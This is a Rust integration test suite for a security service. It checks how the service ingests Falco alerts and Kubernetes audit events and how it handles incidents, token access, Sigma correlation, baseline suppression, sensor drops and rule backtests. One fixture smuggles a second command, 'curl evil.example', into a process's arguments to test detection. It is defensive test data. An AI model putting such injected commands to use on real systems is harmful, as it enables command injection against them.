//! Run-time events in the service: from the door over the bus to incidents, whatever is killed in between.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{Api, Backends, Data, Nats, Server, fixture};

/// What a test may take at most; it fails then.
const PATIENCE: Duration = Duration::from_secs(90);

/// An alert of Falco in a container of the workload `web`.
fn alert(number: u32, rule: &str, pod: &str) -> Value {
    json!({
        "uuid": format!("00000000-0000-4000-8000-{number:012}"),
        "hostname": "node-1", "priority": "Warning", "rule": rule, "source": "syscall",
        "output": format!("{rule} in {pod}"), "tags": ["container", "T1059"],
        "time": jiff::Timestamp::now().to_string(),
        "output_fields": {
            "container.id": "0123456789ab", "container.name": "web", "k8s.ns.name": "shop", "k8s.pod.name": pod,
            "proc.cmdline": "bash -i", "proc.name": "bash", "user.name": "root"
        },
    })
}

/// Asks until the answer is as wanted.
#[track_caller]
fn until(server: &Server, path: &str, wanted: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + PATIENCE;
    loop {
        if let Ok(answer) = server.api().try_get(path)
            && answer.status == 200
            && wanted(&answer.body)
        {
            return answer.body;
        }
        assert!(Instant::now() < deadline, "{path}: {:?}\n{}", server.api().get(path), server.log());
        std::thread::yield_now();
    }
}

fn count(page: &Value) -> usize {
    page["items"].as_array().map_or(0, Vec::len)
}

/// Makes a source; a client that holds its token.
#[track_caller]
fn source(server: &Server, name: &str, format: &str) -> Api {
    let made = server
        .api()
        .post("/api/v1/runtime/sources", &json!({ "name": name, "format": format, "cluster": "c1" }));
    assert_eq!(made.status, 201, "{}", made.body);
    server.api().with_token(made.body["token"].as_str().unwrap())
}

#[test]
fn an_alert_is_an_incident_at_once_and_the_same_one_after_a_kill() {
    for backends in [Some(Backends::Embedded), Backends::servers()].into_iter().flatten() {
        let data = Data::with_sample();
        let mut server = Server::prepare(&data, &backends, "");
        server.start();
        let token = source(&server, "falco", "falco");
        let told = token.post("/api/v1/ingest/falco", &alert(1, "Terminal shell in container", "web-1"));
        assert_eq!((told.status, &told.body["events"]), (200, &json!(1)), "{}", told.body);
        let found = until(&server, "/api/v1/incidents", |page| count(page) == 1);
        let id = found["items"][0]["id"].as_str().unwrap().to_owned();
        assert_eq!(found["items"][0]["title"], "Terminal shell in container");
        // The same bytes again, and after a kill something new of the same container.
        let again = alert(1, "Terminal shell in container", "web-1");
        token.post("/api/v1/ingest/falco", &again);
        server.kill();
        server.start();
        let token = server.api().with_token(token.token());
        token.post("/api/v1/ingest/falco", &alert(2, "Read sensitive file untrusted", "web-1"));
        let found = until(&server, "/api/v1/incidents", |page| page["items"][0]["detections"] == json!(2));
        assert_eq!((count(&found), &found["items"][0]["id"]), (1, &json!(id)), "{found}");
        let events = server.api().all("/api/v1/runtime/events");
        assert_eq!(events.len(), 2, "an event that came twice counts once: {events:?}");
    }
}

#[test]
fn only_the_token_of_a_source_opens_its_door() {
    let data = Data::with_sample();
    let server = Server::embedded(&data);
    let falco = source(&server, "falco", "falco");
    let audit = source(&server, "audit", "kubernetes-audit");
    let body = alert(1, "r", "web-1");
    assert_eq!(falco.post("/api/v1/ingest/audit", &body).status, 403);
    assert_eq!(audit.post("/api/v1/ingest/falco", &body).status, 403);
    assert_eq!(
        server.api().post("/api/v1/ingest/falco", &body).status,
        401,
        "a token of the API is no sensor's"
    );
    assert_eq!(falco.with_token("pse_nobody").post("/api/v1/ingest/falco", &body).status, 401);
    assert_eq!(
        falco.try_get("/api/v1/incidents").unwrap().status,
        401,
        "a sensor's token opens nothing else"
    );
    let wrong = falco.post("/api/v1/ingest/falco", &json!({ "kind": "EventList" }));
    assert_eq!(wrong.status, 422, "{}", wrong.body);
}

/// Twelve refusals of a service account within minutes: told once by Sigma's correlation, although the service is killed between them.
#[test]
fn what_a_correlation_has_counted_survives_a_kill() {
    let data = Data::with_sample();
    let mut server = Server::prepare(&data, &Backends::Embedded, "[events]\nlateness-seconds = 1\n");
    server.start();
    let token = source(&server, "audit", "kubernetes-audit");
    let refusal = |number: u32| {
        let now = jiff::Timestamp::now().to_string();
        json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "stage": "ResponseComplete",
            "auditID": format!("00000000-0000-4000-8000-{number:012}"), "verb": "list", "requestURI": "/api/v1/secrets",
            "user": { "username": "system:serviceaccount:shop:web", "groups": ["system:serviceaccounts"] },
            "sourceIPs": ["10.0.0.7"], "objectRef": { "resource": "secrets", "apiVersion": "v1", "namespace": format!("n{number}") },
            "responseStatus": { "code": 403 }, "requestReceivedTimestamp": now, "stageTimestamp": now,
            "annotations": { "authorization.k8s.io/decision": "forbid" },
        })
    };
    let list = |from: u32, to: u32| {
        let items: Vec<Value> = (from..to).map(&refusal).collect();
        json!({ "kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items })
    };
    assert_eq!(token.post("/api/v1/ingest/audit", &list(0, 6)).status, 200);
    until(&server, "/api/v1/runtime/events?limit=200", |page| count(page) == 6);
    server.kill();
    server.start();
    let token = server.api().with_token(token.token());
    assert_eq!(token.post("/api/v1/ingest/audit", &list(6, 12)).status, 200);
    let found = until(
        &server,
        "/api/v1/runtime/detections?rule=palisade.sigma/k8s-many-requests-forbidden",
        |page| count(page) >= 1,
    );
    assert_eq!(count(&found), 1, "{found:#}");
}

/// What a job of the workload does every day, as Falco tells it, so many hours ago.
fn daily(number: u32, minutes_ago: i64, arguments: &str) -> Value {
    let at = jiff::Timestamp::now() - jiff::SignedDuration::from_mins(minutes_ago);
    json!({
        "uuid": format!("00000000-0000-4000-8000-{number:012}"),
        "hostname": "node-1", "priority": "Notice", "rule": "Contact K8S API Server From Container", "source": "syscall",
        "output": "a connection to the API server", "tags": ["container"], "time": at.to_string(),
        "output_fields": {
            "container.id": "0123456789ab", "container.name": "web", "container.image.repository": "r/web",
            "container.image.tag": "1", "k8s.ns.name": "shop", "k8s.pod.name": "web-1", "proc.name": "logrotate",
            "proc.exepath": "/usr/bin/logrotate", "proc.cmdline": format!("logrotate {arguments}"), "proc.pname": "nginx",
            "proc.pexepath": "/usr/sbin/nginx", "user.name": "root"
        },
    })
}

/// The baseline plugin, in the sandbox, over a week of events: what it explains is suppressed from then on, also after a kill.
#[test]
fn what_a_workload_does_every_day_is_suppressed_and_anything_else_is_told() {
    const DAY: i64 = 24 * 60;
    let data = Data::with_sample();
    let mut server = Server::prepare(&data, &Backends::Embedded, "[events]\nlateness-seconds = 1\n");
    server.start();
    let token = source(&server, "falco", "falco");
    let days = (0..30).map(|minute| 7 * DAY - minute).chain((1..7).map(|day| (7 - day) * DAY - 1));
    let week: Vec<Value> = days.zip(0..).map(|(ago, number)| daily(number, ago, "-f a")).collect();
    let told = token.post("/api/v1/ingest/falco", &Value::Array(week));
    assert_eq!(told.status, 200, "{}", told.body);
    let word = "/api/v1/runtime/detections?rule=palisade.baseline/expected-alert";
    let word = until(&server, word, |page| count(page) >= 1);
    let by = word["items"][0]["evidence"]["suppressedBy"].as_str().unwrap().to_owned();
    server.kill();
    server.start();
    let token = server.api().with_token(token.token());
    let today = [daily(100, 0, "-f a"), daily(101, 0, "-f a; curl evil.example")];
    token.post("/api/v1/ingest/falco", &json!(today));
    let rule = "/api/v1/runtime/detections?rule=sensor/falco/Contact%20K8S%20API%20Server%20From%20Container&limit=200";
    let of = |page: &Value, number: u32| {
        let items = page["items"].as_array().unwrap().clone();
        let event = format!("{number:012}");
        let proves = |one: &Value| {
            let id = one["id"].as_str().unwrap();
            let detail = server.api().get(&format!("/api/v1/runtime/detections/{id}"));
            detail["events"].to_string().contains(&event)
        };
        items.into_iter().take(4).find(proves)
    };
    let found = until(&server, rule, |page| of(page, 100).is_some() && of(page, 101).is_some());
    assert_eq!(of(&found, 100).unwrap()["suppressed_by"], by, "{found:#}");
    assert_eq!(of(&found, 101).unwrap()["suppressed_by"], Value::Null);
}

#[test]
fn events_of_a_stream_of_nats_are_taken_in_and_none_is_lost_while_nobody_is_there() {
    let Some(nats) = Nats::start() else { return };
    let stream = json!({ "name": "SENSORS", "subjects": ["sensors.>"], "storage": "file" });
    let made = nats.request("$JS.API.STREAM.CREATE.SENSORS", &stream.to_string());
    assert!(!made.contains("error"), "{made}");
    let publish = |subject: &str, body: &str| {
        let told = nats.request(subject, body);
        assert!(told.contains("\"seq\""), "{told}");
    };
    publish("sensors.falco.n1", &alert(1, "Terminal shell in container", "web-1").to_string());
    publish("sensors.other", &alert(9, "of nobody", "web-1").to_string());
    let data = Data::with_sample();
    let settings = format!(
        "[events.nats.falco]\nstream = \"SENSORS\"\nsubject = \"sensors.falco.>\"\n[events.nats.falco.server]\nurl = {:?}\n",
        nats.url
    );
    let mut server = Server::prepare(&data, &Backends::Embedded, &settings);
    server.start();
    source(&server, "falco", "falco");
    until(&server, "/api/v1/runtime/events", |page| count(page) == 1);
    server.kill();
    publish("sensors.falco.n1", "no event at all");
    publish("sensors.falco.n2", &alert(2, "Terminal shell in container", "web-1").to_string());
    server.start();
    let events = until(&server, "/api/v1/runtime/events", |page| count(page) == 2);
    assert!(!events.to_string().contains("of nobody"), "{events}");
    assert!(server.log().contains("it is passed over"), "what holds no event is told");
}

/// A sensor that loses events leaves its machine, and what runs there, unseen: a gap of what is known of them, and no alert.
#[test]
fn what_a_sensor_has_lost_is_said_of_the_machine_and_is_no_detection() {
    let data = Data::with_sample();
    let server = Server::embedded(&data);
    let objects = tempfile::tempdir().unwrap();
    std::fs::copy(fixture("kubernetes/small.json"), objects.path().join("all.json")).unwrap();
    let scan = server.api().scan("cluster", &objects.path().display().to_string());
    assert_eq!(scan["state"], "finished", "{scan}");
    let node = server.api().all("/api/v1/inventory?kind=Node").remove(0);
    let id = node["id"].as_str().unwrap();
    let cluster = id.strip_prefix("k8s:").unwrap().split('/').next().unwrap();
    let wanted = json!({ "name": "falco", "format": "falco", "cluster": cluster });
    let made = server.api().post("/api/v1/runtime/sources", &wanted);
    let sensor = server.api().with_token(made.body["token"].as_str().unwrap());
    let lost = json!({
        "hostname": node["name"], "rule": "Falco internal: syscall event drop", "priority": "Debug", "source": "internal",
        "time": jiff::Timestamp::now().to_string(), "output": "dropped",
        "output_fields": { "n_drops": 500, "n_evts": 1000 },
    });
    let told = sensor.post("/api/v1/ingest/falco", &lost);
    assert_eq!((told.status, &told.body["health"]), (200, &json!(1)), "{}", told.body);
    let pods = server.api().all("/api/v1/inventory?kind=Pod");
    let pod = pods.iter().find(|pod| pod["name"] == "web-1-a").unwrap();
    for id in [id, pod["id"].as_str().unwrap()] {
        let path = format!("/api/v1/inventory/{}", id.replace('/', "%2F"));
        let seen = until(&server, &path, |resource| resource["sensors"][0]["state"] == "blind");
        assert_eq!(seen["sensors"][0]["drops"], 500, "{seen:#}");
    }
    assert!(server.api().all("/api/v1/runtime/detections").is_empty());
}

/// A rule of Sigma that fits alerts of one rule of Falco.
const CANDIDATE: &str = "
title: Shell in the shop
id: 0f4c8b52-6a9c-4d0f-9d1c-7a8de7c1a001
name: shell-in-the-shop
logsource: { product: falco }
detection:
  selection: { rule: Terminal shell in container, output_fields.k8s.ns.name: shop }
  condition: selection
level: high
";

#[test]
fn rules_are_tried_on_stored_events_before_they_judge_new_ones() {
    for backends in [Some(Backends::Embedded), Backends::servers()].into_iter().flatten() {
        let data = Data::with_sample();
        let mut server = Server::prepare(&data, &backends, "");
        server.start();
        let token = source(&server, "falco", "falco");
        let begun = jiff::Timestamp::now();
        for number in 1..=3 {
            token.post("/api/v1/ingest/falco", &alert(number, "Terminal shell in container", "web-1"));
        }
        token.post("/api/v1/ingest/falco", &alert(4, "Read sensitive file untrusted", "web-1"));
        until(&server, "/api/v1/runtime/events", |page| count(page) == 4);
        let before = server.api().all("/api/v1/runtime/detections").len();

        let from = begun.saturating_sub(jiff::SignedDuration::from_mins(5)).unwrap().to_string();
        let asked = |text: &str| json!({ "rules": [{ "name": "shell.yml", "text": text }], "from": from });
        let broken = server.api().post("/api/v1/backtests", &asked("title: [a"));
        assert_eq!(
            (broken.status, &broken.body["code"]),
            (422, &json!("backtest-refused")),
            "{}",
            broken.body
        );
        assert!(broken.body["detail"].as_str().unwrap().contains("shell.yml"), "{}", broken.body);
        let missing = json!({ "candidate": { "plugin": "palisade.sigma", "digest": format!("sha256:{}", "0".repeat(64)) }, "from": from });
        let missing = server.api().post("/api/v1/backtests", &missing);
        assert_eq!(
            (missing.status, &missing.body["code"]),
            (422, &json!("backtest-refused")),
            "{}",
            missing.body
        );

        let accepted = server.api().post("/api/v1/backtests", &asked(CANDIDATE));
        assert_eq!(accepted.status, 202, "{}", accepted.body);
        // Whatever of it was under way is made again.
        server.kill();
        server.start();
        let path = format!("/api/v1/backtests/{}", accepted.body["id"].as_str().unwrap());
        let over =
            until(&server, &path, |one| !["queued", "running"].contains(&one["state"].as_str().unwrap()));
        assert_eq!((&over["state"], &over["events"]), (&json!("finished"), &json!(4)), "{over}");
        let difference = &over["difference"];
        assert_eq!(
            (&difference["before"]["gaps"], &difference["after"]["gaps"]),
            (&json!(0), &json!(0)),
            "{over}"
        );
        let added = difference["added"].as_array().unwrap();
        assert_eq!((added.len(), &difference["removed"]), (3, &json!([])), "{over}");
        for one in added {
            assert_eq!(
                (&one["title"], &one["severity"]),
                (&json!("Shell in the shop"), &json!("high")),
                "{one}"
            );
            server.api().get(&format!("/api/v1/runtime/events/{}", one["events"][0].as_str().unwrap()));
        }
        assert_eq!(server.api().all("/api/v1/runtime/detections").len(), before, "nothing of it is stored");
    }
}
